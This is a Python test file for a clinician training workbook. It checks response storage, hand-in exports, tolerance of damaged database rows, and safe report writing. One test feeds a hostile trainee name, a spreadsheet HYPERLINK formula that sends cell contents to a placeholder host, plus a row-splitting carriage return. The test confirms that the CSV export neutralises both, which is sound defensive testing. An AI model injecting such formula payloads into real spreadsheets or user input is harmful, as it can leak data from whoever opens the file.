"""Readers never crash on what a store or hand-in holds, never show it as something else, and
never let a file change what the safety section says (cases found by an adversarial review)."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from clinician_workbook.content import Catalog
from clinician_workbook.content.models import TriageCase
from clinician_workbook.curriculum import progress
from clinician_workbook.errors import UsageError
from clinician_workbook.exercises.supervise import FeedbackForm
from clinician_workbook.files import write_atomic
from clinician_workbook.report import build_report, render_csv, write_report
from clinician_workbook.responses import ResponseStore, store_path
from clinician_workbook.responses.cohort import read_cohort
from clinician_workbook.responses.handin import export_responses, write_export
from clinician_workbook.supervision import Supervision

CASE = "triage-self-harm-clear"


def insert(
    path: Path, trainee: str, challenge: str, exercise: str, item: str, answer: Any, role: str = "trainee"
) -> None:
    """A row as an older version, a hand edit or a damaged file might hold it (no model check)."""
    with sqlite3.connect(path) as conn:
        n = conn.execute("SELECT COUNT(*) FROM attempts").fetchone()[0]
        conn.execute(
            "INSERT INTO attempts (uid, trainee, time, challenge, exercise, item, answer, role, author, shared) "
            "VALUES (?, ?, ?, ?, ?, ?, ?, ?, 'X', 0)",
            (
                f"{n:032x}",
                trainee,
                f"2030-01-01T00:00:{n:02d}.000000+00:00",
                challenge,
                exercise,
                item,
                answer if isinstance(answer, str) else json.dumps(answer),
                role,
            ),
        )


def test_unsharing_a_reflection_takes_every_version_out_of_the_handin(tmp_path: Path) -> None:
    with ResponseStore.open(tmp_path, "Ada") as store:
        store.save("emotional-overwhelm", "reflect", "ow-reflect-1", {"stages": {"feelings": "v1"}}, shared=True)
        store.save("emotional-overwhelm", "reflect", "ow-reflect-1", {"stages": {"feelings": "v2 PRIVATE"}})
        text = json.dumps(export_responses(store))
    assert "v1" not in text and "PRIVATE" not in text


def test_a_handin_filed_under_another_page_does_not_correct_a_miss(tmp_path: Path, catalog: Catalog) -> None:
    folder = tmp_path / "cohort"
    case = catalog.get("triage_case", CASE, TriageCase)
    with ResponseStore.open(folder, "Bob") as store:
        store.save("when-concerning", "triage", CASE, {"urgency": "routine", "steps": [["act-safety-plan"]]})
    with ResponseStore.open(tmp_path / "elsewhere", "Bob") as other:
        other.save("emotional-overwhelm", "triage", CASE, {"urgency": case.urgency, "steps": case.actions})
        write_export(other, folder / "bob-extra.json")
    report = build_report(read_cohort(folder), catalog)
    assert [m.case for m in report.misses] == [CASE] and report.corrected == []


def test_rows_that_fit_nothing_never_crash_a_reader(
    tmp_path: Path, catalog: Catalog, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "cohort"
    ResponseStore.open(folder, "Eve").close()
    path = store_path(folder, "Eve")
    insert(path, "Eve", "emotional-overwhelm", "knowledge-check", "ow-kc-1", {"choice": 99})
    insert(
        path,
        "Eve",
        "navigating-challenges",
        "respond",
        "ow-cs-beginner-1",
        {"statement": "ow-cs-beginner-1", "difficulty": "beginner", "response": "x"},
    )
    insert(path, "Eve", "when-concerning", "feedback", f"triage/{CASE}", {"ratings": [1]}, role="supervisor")
    insert(path, "Eve", "when-concerning", "triage", CASE, "{not json")
    shown: list[Any] = []
    monkeypatch.setattr("clinician_workbook.supervision.display", lambda obj: shown.append(obj))
    sv = Supervision(path, "Dr Lee", catalog=catalog)
    for section in ("header", "responses", "triage", "reflections"):
        getattr(sv, section)()  # no KeyError, no TraitError, no AttributeError
    sv.close()
    forms = [f for f in shown if isinstance(f, FeedbackForm)]
    assert any("could not be read" in f.children[0].value for f in forms)
    attempts = read_cohort(folder).trainees[0].ordered()
    assert progress(catalog, "emotional-overwhelm", attempts).exercises[3].done == 0  # choice 99 is not done
    report = build_report(read_cohort(folder), catalog)
    assert any("could not be read" in line for line in report.unchecked)


def test_a_spreadsheet_never_runs_a_trainee_name(tmp_path: Path, catalog: Catalog) -> None:
    folder = tmp_path / "cohort"
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    with ResponseStore.open(folder, hostile) as store:
        store.save("emotional-overwhelm", "reflect", "ow-reflect-1", {"stages": {"feelings": "x"}})
    with ResponseStore.open(folder, "Split\rRow") as store:
        store.save("emotional-overwhelm", "reflect", "ow-reflect-1", {"stages": {"feelings": "x"}})
    text = render_csv(build_report(read_cohort(folder), catalog))
    assert "\n=" not in text and f"'{hostile}".replace('"', '""') in text
    assert '"Split\rRow"' in text  # quoted, so the row is not split


def test_odd_outputs_are_one_line_errors(tmp_path: Path) -> None:
    folder = tmp_path / "cohort"
    folder.mkdir()
    with pytest.raises(UsageError, match="is a folder"):
        write_report(folder, tmp_path, ["csv"])
    target = tmp_path / "target.txt"
    target.write_text("keep me", encoding="utf-8")
    (tmp_path / "link.json").symlink_to(target)
    with pytest.raises(UsageError, match="not a regular file"):
        write_atomic(tmp_path / "link.json", "{}")
    assert target.read_text(encoding="utf-8") == "keep me"
